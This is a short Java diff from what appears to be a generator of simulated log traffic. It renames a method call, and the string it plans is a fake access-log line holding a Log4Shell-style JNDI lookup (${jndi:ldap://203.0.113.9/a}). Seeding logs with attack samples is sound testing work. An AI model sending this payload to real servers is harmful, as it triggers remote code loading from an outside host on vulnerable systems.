@@ -176,7 +176,7 @@ enum Trouble {
       String time =
           DateTimeFormatter.ofPattern("dd/MMM/yyyy:HH:mm:ss xx", Locale.ENGLISH)
               .format(at.atZone(it.zone()));
-      it.plan(
+      it.planText(
           at,
           "%s - - [%s] \"GET /?x=${jndi:ldap://203.0.113.9/a} HTTP/1.1\" 404 12 \"-\" \"curl/8.5\""
               .formatted(QuietLife.stranger(chance), time));
